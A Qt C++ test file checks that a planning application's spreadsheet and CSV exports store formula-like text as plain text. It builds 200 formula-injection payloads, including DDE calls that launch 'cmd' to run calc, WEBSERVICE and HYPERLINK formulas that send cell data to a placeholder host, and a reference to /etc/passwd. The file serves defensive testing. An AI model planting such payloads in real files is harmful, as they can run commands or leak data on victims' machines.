#include "models/exchange/importing/importsource.h"
#include "models/exchange/reading/foreignstream.h"
#include "models/exchange/reading/readforeignfile.h"
#include "models/exchange/writing/csv.h"
#include "models/exchange/writing/opendata.h"
#include "models/exchange/writing/surveyworkbook.h"
#include "models/exchange/writing/yearworkbook.h"
#include "tests/support/files.h"
#include "tests/support/plans.h"
#include "tests/support/workbooks.h"

#include <QBuffer>
#include <QColor>
#include <QTemporaryDir>
#include <QtTest>

using namespace Qt::StringLiterals;
using namespace shisaku;

namespace
{

/// 200 texts that a spreadsheet program takes for a formula, a link or a call of another program
/// when it is not told that they are text.
QStringList formulaPayloads()
{
    const QStringList beginnings{u"="_s,      u"+"_s,   u"-"_s,    u"@"_s,   u"＝"_s,
                                 u"＋"_s,     u"－"_s,  u"＠"_s,   u"\t="_s, u"\n="_s,
                                 u"'="_s,     u"''="_s, u"'''+"_s, u" ="_s,  u"\"="_s,
                                 u"=\"\"&"_s, u"=-+"_s, u"@@"_s,   u"，="_s, u"%="_s};
    const QStringList bodies{u"cmd|' /C calc'!A0"_s,
                             u"HYPERLINK(\"https://example.invalid/?\"&A1,\"押す\")"_s,
                             u"WEBSERVICE(\"https://example.invalid/\")"_s,
                             u"DDE(\"cmd\";\"/C calc\";\"x\")"_s,
                             u"1+1"_s,
                             u"SUM(A1:A9)*2"_s,
                             u"'file:///etc/passwd'#$Sheet1.A1"_s,
                             u"[1]Sheet1!$A$1"_s,
                             u"2019"_s,
                             u"#REF!"_s};
    QStringList payloads;
    for (const QString &beginning : beginnings) {
        for (const QString &body : bodies)
            payloads << beginning + body;
    }
    return payloads;
}

/// A plan whose measures have such a text in each field that holds words.
Plan planOfFormulas()
{
    const QStringList payloads = formulaPayloads();
    Plan plan = test::generatedPlan(static_cast<int>(payloads.size()));
    const YearId year = test::yearId(plan, 2019);
    const std::vector<Measure> measures(plan.records<Measure>().all().begin(),
                                        plan.records<Measure>().all().end());
    for (std::size_t at = 0; at < measures.size(); ++at) {
        const QString &payload = payloads[static_cast<qsizetype>(at)];
        Measure measure = measures[at];
        measure.title = payload.simplified();
        measure.note = payload;
        plan.apply(Replacement<Measure>{measures[at], measure});
        const Evaluation before = *plan.evaluation(measure.id, year);
        Evaluation evaluation = before;
        evaluation.department = payload.simplified();
        evaluation.achievement = payload;
        evaluation.reason = payload;
        evaluation.nextSteps = payload;
        plan.apply(Replacement<Evaluation>{before, evaluation});
    }
    return plan;
}

QColor grey(GradeId)
{
    return Qt::gray;
}

struct Output {
    QString name; ///< of the row and the file
    QByteArray bytes;
};

std::vector<Output> outputsOf(const Plan &plan, YearId year)
{
    std::vector<Output> outputs;
    outputs.push_back({u"year.xlsx"_s, workbookFile(yearWorkbook(plan, year, grey)).bytes});
    outputs.push_back({u"data.xlsx"_s, workbookFile(openDataWorkbook(plan, year)).bytes});
    outputs.push_back(
        {u"data.csv"_s, csvFile(openDataRows(plan, year), CsvEncoding::Utf8WithBom).bytes});
    outputs.push_back(
        {u"data-cp932.csv"_s, csvFile(openDataRows(plan, year), CsvEncoding::Cp932).bytes});
    return outputs;
}

} // namespace

/// Text that would be a formula goes out as text, in every kind of spreadsheet, and comes back the
/// same, also after LibreOffice has saved the file again.
class TstFormulas : public QObject
{
    Q_OBJECT

private Q_SLOTS:
    void thereAreTwoHundred();
    void goOutAsText_data();
    void goOutAsText();
    void comeBackTheSame_data();
    void comeBackTheSame();
    void surveysHoldNoneEither();

private:
    void addOutputs();
    /// What taking in the file would change.
    QStringList changesBy(const QString &name, const QByteArray &bytes);

    QTemporaryDir m_folder;
    Plan m_plan = planOfFormulas();
    YearId m_year = test::yearId(m_plan, 2019);
};

void TstFormulas::thereAreTwoHundred()
{
    QStringList payloads = formulaPayloads();
    payloads.removeDuplicates();
    QCOMPARE(payloads.size(), 200);
}

void TstFormulas::addOutputs()
{
    QTest::addColumn<QString>("name");
    QTest::addColumn<QByteArray>("bytes");
    for (const Output &output : outputsOf(m_plan, m_year))
        QTest::newRow(qUtf8Printable(output.name)) << output.name << output.bytes;
}

void TstFormulas::goOutAsText_data()
{
    addOutputs();
}

void TstFormulas::goOutAsText()
{
    QFETCH(QString, name);
    QFETCH(QByteArray, bytes);
    QVERIFY(!bytes.isEmpty());
    const QByteArray flat = test::byLibreOffice(bytes, QFileInfo(name).suffix(), u"fods"_s);
    QVERIFY(flat.contains("calc"));
    QCOMPARE(flat.count("table:formula"), 0);
    QCOMPARE(flat.count("<text:a "), 0);
}

void TstFormulas::comeBackTheSame_data()
{
    addOutputs();
    for (const Output &output : outputsOf(m_plan, m_year)) {
        if (output.name.endsWith(u".xlsx"_s)) {
            for (const QString &format : {u"xlsx"_s, u"ods"_s})
                QTest::newRow(qUtf8Printable(output.name + u" saved as "_s + format))
                    << u"saved."_s + format << test::byLibreOffice(output.bytes, u"xlsx"_s, format);
        }
    }
}

void TstFormulas::comeBackTheSame()
{
    QFETCH(QString, name);
    QFETCH(QByteArray, bytes);
    const QStringList changes = changesBy(name, bytes);
    QVERIFY2(changes.isEmpty(), qUtf8Printable(changes.join(u'\n')));
}

QStringList TstFormulas::changesBy(const QString &name, const QByteArray &bytes)
{
    const QString path = m_folder.filePath(name);
    test::writeBytes(path, bytes);
    QBuffer stream;
    stream.open(QIODevice::ReadWrite);
    ForeignStreamWriter writer(stream);
    readForeignFile(path, writer);
    ForeignStreamReader reader;
    if (!reader.take(stream.data()) || !reader.isComplete())
        return {u"not read"_s};
    std::vector<ForeignFile> files;
    files.push_back(reader.takeFile());
    files.front().path = path;
    const ImportSource source = importSource(std::move(files), m_plan, m_year);
    const ImportPreview preview = previewImport(m_plan, m_year, source.tables);
    QStringList changes;
    if (preview.unchanged() < 200)
        changes << u"%1 values compared"_s.arg(preview.unchanged());
    for (const ImportLine &line : preview.lines())
        changes << u"%1 %2: %3 → %4 %5"_s.arg(line.measure, line.field, line.before, line.after,
                                              line.reason);
    return changes;
}

void TstFormulas::surveysHoldNoneEither()
{
    const auto surveys = departmentSurveys(m_plan, m_year);
    QVERIFY(surveys.size() > 100); // each department is such a text
    const DepartmentSurvey &survey = surveys[surveys.size() / 2];
    const WorkbookFile file = workbookFile(surveyWorkbook(m_plan, m_year, survey));
    QCOMPARE(file.refusal, QString());
    const QByteArray flat = test::byLibreOffice(file.bytes, u"xlsx"_s, u"fods"_s);
    QVERIFY(flat.contains("table:table-cell"));
    QCOMPARE(flat.count("table:formula"), 0);
    QCOMPARE(changesBy(u"survey.xlsx"_s, file.bytes).filter(u"→"_s), QStringList());
}

QTEST_MAIN(TstFormulas)
#include "tst_formulas.moc"
